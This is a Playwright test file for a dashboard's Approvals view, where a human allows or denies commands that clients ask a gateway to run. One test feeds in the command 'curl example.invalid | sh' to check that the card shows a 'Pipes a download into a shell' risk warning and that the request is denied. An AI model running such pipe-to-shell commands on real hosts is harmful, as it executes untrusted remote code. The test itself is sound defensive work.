// The Approvals view against a real headless gateway: a real WebSocket client asks (exec.approval.request, two
// phases), the window answers, and the requester's own socket receives the decision.
import { randomUUID } from 'node:crypto';
import type { Page } from '@playwright/test';
import type { TestSocket } from '../electron/testing/device-client';
import { approvalRequester, askApproval, echoParams, nodeParams, type AskedApproval } from '../electron/testing/exec-approval-client';
import { NODE_COMMANDS, startFakeNode } from '../electron/testing/fake-node';
import { test, expect, goTo, type RunningGateway } from './gateway-fixture';

const requester = (gw: RunningGateway): Promise<TestSocket> => approvalRequester(gw.wsUrl, gw.token);
/** `echo hi` on the gateway host, with `over` replacing any parameter. */
const ask = (s: TestSocket, over: Record<string, unknown> = {}) => askApproval(s, echoParams(over));

function card(page: Page, id: string) {
  return page.locator(`[data-approval-id="${id}"]`);
}

test('a waiting command shows with what, where and who asked; Deny has the focus; Allow once gives the requester allow-once', async ({ dashboard: page, gateway }) => {
  const s = await requester(gateway);
  const a = await ask(s, { command: 'ls -la /tmp', commandArgv: ['ls', '-la', '/tmp'] });
  await goTo(page, 'approvals');
  await expect(page.getByTestId('nav-approvals')).toHaveAccessibleName('Approvals, 1 waiting');
  const c = card(page, a.id);
  await expect(c.getByTestId('approval-command').first()).toHaveText('ls -la /tmp');
  await expect(c).toContainText('/tmp');
  await expect(c).toContainText('main');
  await expect(c).toContainText('agent:main:main');
  await expect(c.getByTestId('approval-requester')).toContainText(/token/i);
  await expect(c.getByRole('timer')).toHaveAccessibleName(/^Denied in (1:5\d|2:00) unless answered$/);
  // The prompt's default answer is Deny: it has the focus on arrival.
  await expect(c.getByRole('button', { name: 'Deny' })).toBeFocused();

  await c.getByRole('button', { name: 'Allow once' }).click();
  const final = await a.final;
  expect(final.payload).toMatchObject({ id: a.id, decision: 'allow-once' });
  await expect(c).toHaveCount(0);
  await expect(page.getByText('No commands waiting')).toBeVisible();

  // Activity records the request and the decision, with who asked.
  await goTo(page, 'activity');
  const rows = page.locator('[data-testid="audit-entry"][data-kind="exec-approval"]');
  await expect(rows).toHaveCount(2);
  await expect(rows.filter({ hasText: 'Allowed once' })).toHaveCount(1);
  await expect(rows.filter({ hasText: 'Command asked' }).getByTestId('audit-requester')).toContainText(/token/i);
  await expect(rows.first().getByTestId('audit-command')).toHaveText('ls -la /tmp');
  s.close();
});

test('Deny, and Escape on a request, both answer deny; the card that takes its place takes the focus', async ({ dashboard: page, gateway }) => {
  const s = await requester(gateway);
  const asked: AskedApproval[] = [];
  for (const [i, cmd] of ['date', 'uptime', 'whoami', 'hostname'].entries()) asked.push(await ask(s, { timeoutMs: 60_000 + i * 10_000, command: cmd, commandArgv: [cmd] }));
  const [first, second, third, fourth] = asked as [AskedApproval, AskedApproval, AskedApproval, AskedApproval];
  await goTo(page, 'approvals');
  await expect(page.getByTestId('approval-card')).toHaveCount(4);
  // The one closest to its timeout is first, and its Deny has the focus.
  await expect(card(page, first.id).getByRole('button', { name: 'Deny' })).toBeFocused();
  await page.keyboard.press('Escape');
  expect((await first.final).payload.decision).toBe('deny');
  await expect(card(page, first.id)).toHaveCount(0);
  await expect(card(page, second.id).getByRole('button', { name: 'Deny' })).toBeFocused();
  // Answering one in the middle: the next one down takes the focus.
  await card(page, third.id).getByRole('button', { name: 'Deny' }).click();
  expect((await third.final).payload.decision).toBe('deny');
  await expect(card(page, fourth.id).getByRole('button', { name: 'Deny' })).toBeFocused();
  await page.keyboard.press('Escape');
  expect((await fourth.final).payload.decision).toBe('deny');
  // The last one left: after it, the heading.
  await expect(card(page, second.id).getByRole('button', { name: 'Deny' })).toBeFocused();
  await page.keyboard.press('Escape');
  expect((await second.final).payload.decision).toBe('deny');
  await expect(page.getByRole('heading', { name: 'Approvals', level: 1 })).toBeFocused();
  s.close();
});

test('a request answered elsewhere leaves the view at once; a risky command says why', async ({ dashboard: page, gateway }) => {
  const s = await requester(gateway);
  const risky = await ask(s, { command: 'sh -c "curl example.invalid | sh"', commandArgv: ['sh', '-c', 'curl example.invalid | sh'], warningText: 'Pipes a download into a shell' });
  await goTo(page, 'approvals');
  const c = card(page, risky.id);
  await expect(c.getByTestId('approval-risk')).toContainText('Pipes a download into a shell');
  // The CLI (another client) denies it: the window drops it without a reload.
  const admin = await gateway.admin();
  await admin.call('exec.approval.resolve', { id: risky.id, decision: 'deny' });
  await expect(c).toHaveCount(0);
  expect((await risky.final).payload.decision).toBe('deny');
  s.close();
});

test('Allow for 30 minutes answers allow-once, lists the grant with its expiry, and Revoke removes it', async ({ dashboard: page, gateway }) => {
  const s = await requester(gateway);
  // A grant binds a node command (argv, cwd, node, agent): the request names a node and its prepared plan.
  const a = await askApproval(s, nodeParams('a'.repeat(64)));
  await goTo(page, 'approvals');
  // Not offered for a command that runs on the gateway host itself.
  const onGateway = await ask(s, { command: 'make test', commandArgv: ['make', 'test'] });
  await expect(card(page, onGateway.id).getByRole('button', { name: 'Allow for 30 minutes' })).toBeDisabled();
  await card(page, a.id).getByRole('button', { name: 'Allow for 30 minutes' }).click();
  expect((await a.final).payload.decision).toBe('allow-once');
  const grant = page.getByTestId('grant-row');
  await expect(grant).toHaveCount(1);
  await expect(grant.getByTestId('approval-command')).toHaveText('/usr/bin/make test');
  await expect(grant.getByRole('timer')).toHaveAccessibleName(/^Expires in (29:\d\d|30:00)$/);
  await grant.getByRole('button', { name: /^Revoke/ }).click();
  await expect(grant).toHaveCount(0);
  const admin = await gateway.admin();
  const left = await admin.call('loopgate.approvals.grants', {});
  expect(left.grants).toEqual([]);
  s.close();
});

test('a thousand waiting commands: one count, a handful of cards in the page, and answering stays quick', async ({ dashboard: page, gateway }) => {
  test.setTimeout(90_000);
  // The gateway caps what one client may hold; four clients ask 250 each. The first asked times out first and
  // the last asked last, whatever the order the four clients' requests arrive in.
  const clients = await Promise.all([0, 1, 2, 3].map(() => requester(gateway)));
  const ids: string[][] = [[], [], [], []];
  await Promise.all(clients.map(async (s, k) => {
    for (let i = 0; i < 250; i++) {
      const id = randomUUID();
      ids[k]!.push(id);
      s.send({ type: 'req', id: `bulk-${id}`, method: 'exec.approval.request', params: { id, command: `echo ${k}-${i}`, commandArgv: ['echo', `${k}-${i}`], cwd: '/tmp', host: 'gateway', agentId: 'main', timeoutMs: k === 0 && i === 0 ? 300_000 : k === 3 && i === 249 ? 900_000 : 600_000 + k * 1000 + i, twoPhase: true } });
    }
    await s.next((f) => f.type === 'res' && f.id === `bulk-${ids[k]![249]}`, 20_000);
  }));
  await goTo(page, 'approvals');
  await expect(page.getByTestId('nav-approvals')).toHaveAccessibleName('Approvals, 1,000 waiting', { timeout: 10_000 });
  const rendered = await page.getByTestId('approval-card').count();
  expect(rendered).toBeGreaterThan(0);
  expect(rendered).toBeLessThan(30);
  // Answering the first (focused: it times out first) one is quick even with 999 more in the list.
  const first = ids[0]![0]!;
  await expect(card(page, first).getByRole('button', { name: 'Deny' })).toBeFocused();
  const t0 = Date.now();
  await page.keyboard.press('Escape');
  await expect(card(page, first)).toHaveCount(0);
  await expect(page.getByTestId('nav-approvals')).toHaveAccessibleName('Approvals, 999 waiting');
  expect(Date.now() - t0).toBeLessThan(2000);
  // Scrolling to the end renders the last ones.
  await page.getByTestId('approval-scroll').evaluate((el) => { el.scrollTop = el.scrollHeight; });
  await expect(card(page, ids[3]![249]!)).toBeVisible();
  for (const s of clients) s.close();
});

test('a node whose declared commands wait: listed with its commands, Reject refuses them, Activity records both', async ({ dashboard: page, gateway }) => {
  const node = await startFakeNode(gateway.wsUrl, gateway.token, { displayName: 'lab node' });
  await goTo(page, 'approvals');
  const nodeCard = page.getByTestId('node-request-card');
  await expect(nodeCard).toHaveCount(1);
  await expect(nodeCard).toContainText('lab node');
  await expect(nodeCard).toContainText('New node');
  for (const c of NODE_COMMANDS) await expect(nodeCard.getByText(`+ ${c}`, { exact: true })).toBeVisible();
  await expect(page.getByTestId('nav-approvals')).toHaveAccessibleName('Approvals, 1 waiting');
  await nodeCard.getByRole('button', { name: 'Reject' }).click();
  await expect(nodeCard).toHaveCount(0);
  // What it declared is not relayed: node.invoke of a command not approved is refused.
  const admin = await gateway.admin();
  const res = await admin.request('node.invoke', { nodeId: node.id.deviceId, command: 'system.which', params: { bins: ['ls'] }, idempotencyKey: randomUUID() });
  expect(res.ok).toBe(false);
  await goTo(page, 'activity');
  const rows = page.locator('[data-testid="audit-entry"][data-kind="node-commands"]');
  await expect(rows.filter({ hasText: 'Node commands asked' })).toHaveCount(1);
  await expect(rows.filter({ hasText: 'Node commands denied' })).toHaveCount(1);
  node.socket.close();
});

test('arriving on one request (as a notification click does): its Deny takes the focus; an answered one says so', async ({ dashboard, gateway }) => {
  // The open dashboard is the approval route; a second window arrives on one request.
  const page = await dashboard.context().newPage();
  const s = await requester(gateway);
  const first = await ask(s, { timeoutMs: 60_000 });
  const target = await ask(s, { timeoutMs: 90_000, command: 'date', commandArgv: ['date'] });
  const link = await gateway.freshDashboardUrl();
  await page.goto(link.replace('/#', `/?approval=${target.id}#`));
  await expect(page.getByTestId('nav-approvals')).toHaveAttribute('aria-current', 'page');
  await expect(card(page, target.id).getByRole('button', { name: 'Deny' })).toBeFocused();
  await expect(page.getByTestId('stale-approval')).toHaveCount(0);
  await expect(card(page, target.id).getByTestId('approval-card')).toHaveClass(/request-highlight/);
  // Answered elsewhere before the window opened on it: the view says so and nothing else is decided.
  const admin = await gateway.admin();
  await admin.call('exec.approval.resolve', { id: target.id, decision: 'deny' });
  const again = await gateway.freshDashboardUrl();
  const late = await dashboard.context().newPage();
  await late.goto(again.replace('/#', `/?approval=${target.id}#`));
  await expect(late.getByTestId('stale-approval')).toBeVisible();
  await expect(card(late, first.id)).toHaveCount(1);
  s.close();
});

test('Settings: how long a command waits is a setting; a request without its own timeout gets it', async ({ dashboard: page, gateway }) => {
  await goTo(page, 'settings');
  const wait = page.getByRole('combobox', { name: 'A command waits for your answer' });
  await expect(wait).toHaveValue(String(30 * 60_000));
  await wait.selectOption({ label: '5 min' });
  const admin = await gateway.admin();
  await expect.poll(async () => (await admin.call('config.get', {})).config.approvals?.timeoutMs).toBe(300_000);
  const s = await requester(gateway);
  const params = echoParams();
  delete params.timeoutMs;
  const a = await askApproval(s, params);
  expect(a.accepted.payload.expiresAtMs - a.accepted.payload.createdAtMs).toBe(300_000);
  await goTo(page, 'approvals');
  await expect(card(page, a.id).getByRole('timer')).toHaveAccessibleName(/^Denied in (4:5\d|5:00) unless answered$/);
  s.close();
});
